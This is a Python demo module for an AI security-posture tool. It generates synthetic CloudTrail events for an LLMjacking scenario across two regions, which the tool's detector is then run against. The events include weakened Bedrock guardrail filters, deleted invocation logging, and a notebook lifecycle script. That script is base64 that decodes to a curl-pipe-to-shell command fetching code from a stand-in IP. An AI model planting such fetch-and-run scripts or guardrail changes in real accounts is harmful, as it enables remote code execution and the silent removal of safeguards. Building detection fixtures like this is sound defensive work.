"""The demo's built-in CloudTrail events: an LLMjacking burst across two regions, a guardrail weakened, a
notebook lifecycle script planted and a near miss or two, served by the emulator's LookupEvents so that
``aispm demo`` runs ``aispm detect`` through the real CloudTrail client too."""

from __future__ import annotations

import datetime as dt
import json
import uuid
from typing import Any

from aispm.demo.aws_estate import ACCOUNT
from aispm.testing import moto_gaps

ATTACKER = f"arn:aws:iam::{ACCOUNT}:user/ci-deploy"
ADMIN = f"arn:aws:iam::{ACCOUNT}:role/platform-admin"
_SOURCES = {"AcceptAgreementRequest": "aws-marketplace.amazonaws.com",
            "SearchAgreements": "aws-marketplace.amazonaws.com"}
_SAGEMAKER = {"CreateNotebookInstanceLifecycleConfig", "UpdateNotebookInstance", "CreateDomain"}
_WEAK_FILTERS = [{"type": t, "inputStrength": "HIGH", "outputStrength": "HIGH"}
                 for t in ("HATE", "INSULTS", "SEXUAL", "MISCONDUCT")] + [
    {"type": "VIOLENCE", "inputStrength": "NONE", "outputStrength": "HIGH"},
    {"type": "PROMPT_ATTACK", "inputStrength": "HIGH", "outputStrength": "NONE"}]


def _record(name: str, at: dt.datetime, region: str, principal: str, params: dict[str, Any] | None = None,
            error: str | None = None, ip: str = "203.0.113.77") -> dict[str, Any]:
    source = _SOURCES.get(name) or ("sagemaker.amazonaws.com" if name in _SAGEMAKER else "bedrock.amazonaws.com")
    rec: dict[str, Any] = {
        "eventVersion": "1.09", "eventTime": at.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source,
        "eventName": name, "awsRegion": region, "sourceIPAddress": ip, "userAgent": "Boto3/1.34.0",
        "userIdentity": {"type": "IAMUser" if ":user/" in principal else "AssumedRole", "arn": principal,
                         "accountId": ACCOUNT},
        "requestParameters": params or {}, "responseElements": None, "recipientAccountId": ACCOUNT,
        "eventID": str(uuid.uuid5(uuid.NAMESPACE_URL, f"aispm-demo/{name}/{region}/{at.isoformat()}")),
        "eventType": "AwsApiCall", "readOnly": name.startswith(("Get", "List", "Search")),
    }
    if error:
        rec["errorCode"], rec["errorMessage"] = error, "User is not authorized"
    return rec


def events(now: dt.datetime) -> list[dict[str, Any]]:
    """The event set, placed in the hour before ``now``."""
    t = now - dt.timedelta(minutes=50)
    minute = dt.timedelta(minutes=1)
    burst = ["ListFoundationModels", "GetFoundationModelAvailability", "ListFoundationModelAgreementOffers",
             "GetUseCaseForModelAccess", "PutUseCaseForModelAccess", "CreateFoundationModelAgreement",
             "SearchAgreements", "InvokeModel"]
    out = [_record(name, t + i * minute, "us-east-1" if i % 2 else "eu-west-1", ATTACKER,
                   error="AccessDeniedException" if name == "CreateFoundationModelAgreement" else None)
           for i, name in enumerate(burst)]
    out += [
        _record("UpdateGuardrail", t + 12 * minute, "us-east-1", ATTACKER, {
            "guardrailIdentifier": "gr0000000000", "contentPolicyConfig": {"filtersConfig": _WEAK_FILTERS}}),
        _record("DeleteModelInvocationLoggingConfiguration", t + 13 * minute, "eu-west-1", ATTACKER),
        _record("CreateNotebookInstanceLifecycleConfig", t + 20 * minute, "us-east-1", ATTACKER,
                {"notebookInstanceLifecycleConfigName": "nightly-sync",
                 "onStart": [{"content": "IyEvYmluL2Jhc2gKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3ggfCBzaA=="}]}),
        # Near misses: a logging change that keeps its S3 destination, a denied guardrail deletion.
        _record("PutModelInvocationLoggingConfiguration", t + 25 * minute, "us-east-1", ADMIN,
                {"loggingConfig": {"s3Config": {"bucketName": "ai-invocation-logs"}}}, ip="10.20.0.5"),
        _record("DeleteGuardrail", t + 26 * minute, "us-east-1", ATTACKER, {"guardrailIdentifier": "gr0000000000"},
                error="AccessDeniedException"),
    ]
    return out


def seed(now: dt.datetime) -> int:
    """Hand the event set to the emulator's CloudTrail (inside the AWS estate's ``serve()``)."""
    recs = events(now)
    for rec in recs:
        moto_gaps.add_cloudtrail_event(ACCOUNT, rec["awsRegion"], json.loads(json.dumps(rec)))
    return len(recs)
